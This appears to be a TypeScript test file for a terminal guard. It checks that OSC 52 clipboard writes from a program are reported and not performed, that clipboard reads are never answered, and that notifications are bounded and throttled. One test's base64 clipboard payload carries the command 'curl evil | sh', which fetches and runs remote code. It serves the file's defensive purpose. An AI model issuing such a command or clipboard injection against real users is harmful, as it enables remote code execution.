import assert from "node:assert/strict";
import { describe, it } from "node:test";
import headless from "@xterm/headless";
import { catchAttempts, Quiet } from "./attempts.ts";

async function tried(output: string, muted = false): Promise<unknown[]> {
  const terminal = new headless.Terminal({ allowProposedApi: true });
  const seen: unknown[] = [];
  const caught = catchAttempts(terminal, () => muted, {
    onClipboard: (text) => seen.push(["clipboard", text]),
    onNotification: (text) => seen.push(["note", text]),
  });
  await new Promise<void>((done) => terminal.write(output, done));
  caught.dispose();
  terminal.dispose();
  return seen;
}

describe("what a program tries", () => {
  it("A45, T14: a clipboard write is told, not done; a read is never answered", async () => {
    const text = Buffer.from("curl evil | sh é").toString("base64");
    assert.deepEqual(await tried(`\x1b]52;c;${text}\x07`), [["clipboard", "curl evil | sh é"]]);
    assert.deepEqual(await tried("\x1b]52;c;?\x1b\\"), [["clipboard", null]]);
    assert.deepEqual(await tried("\x1b]52;c;***\x07\x1b]52;nothing\x07"), [["clipboard", ""]]);
  });

  it("A45: notifications are words for the person, bounded; progress is silent", async () => {
    assert.deepEqual(await tried("\x1b]9;built\x07\x1b]777;notify;done;in 3 s\x07\x1b]9;4;1;50\x07"), [
      ["note", "built"],
      ["note", "done in 3 s"],
    ]);
    const [[, long] = ["", ""]] = (await tried(`\x1b]9;${"x".repeat(5_000)}\x07`)) as [string, string][];
    assert.equal(long.length, 200);
  });

  it("F51: what was tried before we came is not told again", async () => {
    assert.deepEqual(await tried("\x1b]52;c;aGk=\x07\x1b]9;old\x07", true), []);
  });

  it("A45: a flood of notices is counted, not shown", () => {
    let now = 0;
    const quiet = new Quiet(2_000, () => now);
    assert.equal(quiet.passes(), 0);
    for (let n = 0; n < 1000; n += 1) assert.equal(quiet.passes(), null);
    now = 2_000;
    assert.equal(quiet.passes(), 1000);
  });
});
